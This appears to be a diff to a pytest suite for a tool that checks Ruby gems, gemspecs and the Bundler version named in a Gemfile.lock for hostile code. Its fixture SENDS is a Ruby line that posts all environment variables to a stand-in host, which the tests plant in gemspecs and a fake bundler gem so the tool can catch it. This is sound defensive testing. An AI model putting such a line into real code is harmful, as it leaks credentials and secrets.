@@ -12,6 +12,7 @@ import pytest
 from aiohttp import BasicAuth
 
 from tests.cli.running import Machine
+from tests.git import repository
 from tests.loopback import GemFile, GemPackage, LoopbackRegistry, gem_file
 
 CODE = {"lib/x.rb": "X = 1\n"}
@@ -62,7 +63,7 @@ def lock(machine: Machine, *sections: str, platforms: tuple[str, ...] = BOTH) ->
     text = "".join(sections)
     named = "".join(f"  {platform}\n" for platform in platforms)
     asked = "".join(f"  {name}\n" for name in dict.fromkeys(re.findall(r"(?m)^ {4}(\S+) \(", text)))
-    end = f"PLATFORMS\n{named}\nDEPENDENCIES\n{asked}\nBUNDLED WITH\n   2.6.7\n"
+    end = f"PLATFORMS\n{named}\nDEPENDENCIES\n{asked}"
     return machine.write("Gemfile.lock", text + end)
 
 
@@ -152,23 +153,56 @@ def test_a_source_that_nobody_configured_is_not_asked(machine: Machine, private:
     assert [] == private.requests == machine.registry.requests
 
 
-def test_gems_from_git_and_from_folders_are_named_and_not_judged(machine: Machine) -> None:
+def test_gems_from_git_are_named_and_not_judged(machine: Machine) -> None:
     git = (
         "GIT\n  remote: https://git.example/fork.git\n  revision: "
         + "a" * 40
         + "\n  specs:\n    fork (3.0)\n\n"
     )
-    path = "PATH\n  remote: engines/own\n  specs:\n    own (1.0)\n\n"
-    machine.write("engines/own/own.gemspec", "")
-    lock(machine, git, path, gems(machine.registry.gem_url, "tail (2.5.0)"))
+    lock(machine, git, gems(machine.registry.gem_url, "tail (2.5.0)"))
     ran = machine.run("check", "--format", "json", *LINUX)
     assert 3 == ran.code
-    coverage = ran.json["coverage"]
-    assert ["pkg:gem/own@1.0"] == [item["purl"] for item in coverage["out_of_scope"]]
-    (unjudged,) = coverage["not_judged"]
+    (unjudged,) = ran.json["coverage"]["not_judged"]
     assert "pkg:gem/fork@3.0" == unjudged["purl"]
     assert "git repository" in unjudged["why"]
     assert ["pkg:gem/tail@2.5.0"] == [package["purl"] for package in ran.json["packages"]]
+
+
+OWN = "PATH\n  remote: engines/own\n  specs:\n    own (1.0)\n\n"
+SPEC = 'Gem::Specification.new do |s|\n  s.name = "own"\n  s.version = "1.0"\nend\n'
+SENDS = 'require "net/http"\nNet::HTTP.post(URI("https://collect.invalid/x"), ENV.to_h.to_s)\n'
+
+
+def test_a_folder_of_the_repository_is_judged_and_its_gemspec_too(machine: Machine) -> None:
+    machine.write("engines/own/own.gemspec", SPEC)
+    machine.write("engines/own/lib/own.rb", "VALUE = 1\n")
+    lock(machine, OWN, gems(machine.registry.gem_url, "tail (2.5.0)"))
+    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
+    assert 0 == ran.code, ran.out
+    assert ["pkg:gem/own@1.0", "pkg:gem/tail@2.5.0"] == [package["purl"] for package in ran.json["packages"]]
+    assert [] == ran.json["coverage"]["out_of_scope"]
+    for path, text in {"own.gemspec": SENDS + SPEC, "lib/own.rb": SENDS}.items():
+        machine.write(f"engines/own/{path}", text)
+        ran = machine.run("check", "--as", "new", *LINUX)
+        assert 1 == ran.code, ran.out
+        assert f"{path}:2" in ran.out
+
+
+def test_in_the_full_check_a_folder_is_in_use_already(machine: Machine) -> None:
+    machine.write("engines/own/own.gemspec", SPEC)
+    machine.write("engines/own/lib/own.rb", SENDS)
+    lock(machine, OWN, gems(machine.registry.gem_url, "tail (2.5.0)"))
+    assert 0 == machine.run("check", *LINUX).code
+
+
+@pytest.mark.parametrize("remote", [".", "..", "../.."])
+def test_the_project_s_own_gemspec_is_out_of_scope(machine: Machine, remote: str) -> None:
+    machine.write(".git/HEAD", "")
+    machine.write("own.gemspec", SENDS + SPEC)
+    text = OWN.replace("engines/own", remote) + gems(machine.registry.gem_url, "tail (2.5.0)")
+    machine.write("a/b/Gemfile.lock", f"{text}PLATFORMS\n  ruby\n\nDEPENDENCIES\n  own!\n  tail\n")
+    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
+    assert ["pkg:gem/own@1.0"] == [item["purl"] for item in ran.json["coverage"]["out_of_scope"]]
 
 
 bundle = shutil.which("bundle")
@@ -197,10 +231,79 @@ def test_what_bundler_locks_and_installs_is_what_is_judged(machine: Machine) -> 
     # Bundler takes the gem for any Ruby where the one for this platform does not suit the Ruby that runs.
     assert {*taken, "gems/kite-1.1.0.gem"} == judged
     if "CHECKSUMS" in (machine.folder / "Gemfile.lock").read_text():  # Bundler 2.6 and later write them
-        assert judged == set(fetched(machine.registry))
+        assert {*judged, "info/bundler"} == set(fetched(machine.registry))
 
 
 def credential(header: str | None) -> str:
     """What a header for basic authorization holds."""
     told = BasicAuth.decode(header or "")
     return f"{told.login}:{told.password}"
+
+
+def bundled(version: str) -> str:
+    return f"BUNDLED WITH\n   {version}\n"
+
+
+def write_lock(machine: Machine, version: str, *sections: str) -> None:
+    tail = gems(machine.registry.gem_url, "tail (2.5.0)")
+    machine.write("Gemfile.lock", f"{lock(machine, tail, *sections).read_text()}\n{bundled(version)}")
+
+
+BUNDLER = GemPackage(
+    name="bundler",
+    files=(
+        gem_file("bundler", "2.6.7", {"lib/bundler.rb": "X = 1\n"}),
+        gem_file("bundler", "2.6.9", {"lib/bundler.rb": SENDS}),
+    ),
+)
+
+
+def test_the_bundler_that_a_lock_names_is_judged(machine: Machine) -> None:
+    machine.registry.put_gem(BUNDLER)
+    write_lock(machine, "2.6.7")
+    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
+    assert 0 == ran.code, ran.out
+    assert ["pkg:gem/bundler@2.6.7", "pkg:gem/tail@2.5.0"] == [one["purl"] for one in ran.json["packages"]]
+    write_lock(machine, "2.6.9")
+    ran = machine.run("check", "--as", "new", *LINUX)
+    assert 1 == ran.code, ran.out
+    assert "Gemfile.lock:14" in ran.out
+
+
+def test_a_change_of_the_bundler_is_a_changed_package(machine: Machine) -> None:
+    machine.registry.put_gem(BUNDLER)
+    git = repository(machine.folder)
+    write_lock(machine, "2.6.7")
+    git.commit()
+    ran = machine.run("check", "--since", "HEAD", *LINUX)
+    assert 0 == ran.code, ran.out
+    assert "2 as they were" in ran.out
+    write_lock(machine, "2.6.9")
+    ran = machine.run("check", "--since", "HEAD", *LINUX)
+    assert 1 == ran.code, ran.out
+    assert "gem:bundler@2.6.9" in ran.out
+    assert "upgraded" in ran.out
+
+
+def test_the_bundler_of_a_lock_comes_from_the_usual_registry_alone(machine: Machine) -> None:
+    machine.registry.put_gem(BUNDLER)
+    write_lock(machine, "2.6.7", sums(("bundler (2.6.7)", BUNDLER.files[0]), ("tail (2.5.0)", TAIL.files[0])))
+    path = machine.folder / "Gemfile.lock"
+    path.write_text(path.read_text().replace(machine.registry.gem_url, "https://gems.example/"))
+    ran = machine.run("check", "--format", "json", *LINUX)
+    assert ["pkg:gem/bundler@2.6.7"] == [
+        one["purl"] for one in ran.json["packages"] if "bundler" in one["purl"]
+    ]
+
+
+@pytest.mark.parametrize("version", ["99.0.0", "2.7.0.dev"])
+def test_a_bundler_that_nobody_can_fetch_is_out_of_scope(machine: Machine, version: str) -> None:
+    write_lock(machine, version)
+    ran = machine.run("check", "--as", "new", "--format", "json", *LINUX)
+    assert 0 == ran.code, ran.out
+    assert ["pkg:gem/tail@2.5.0"] == [one["purl"] for one in ran.json["packages"]]
+    machine.registry.put_gem(BUNDLER)
+    ran = machine.run("check", "--as", "new", "--format", "json", *LINUX)
+    assert 0 == ran.code, ran.out
+    listed = [one["purl"] for one in ran.json["coverage"]["out_of_scope"]]
+    assert ([] if version.endswith("dev") else [f"pkg:gem/bundler@{version}"]) == listed
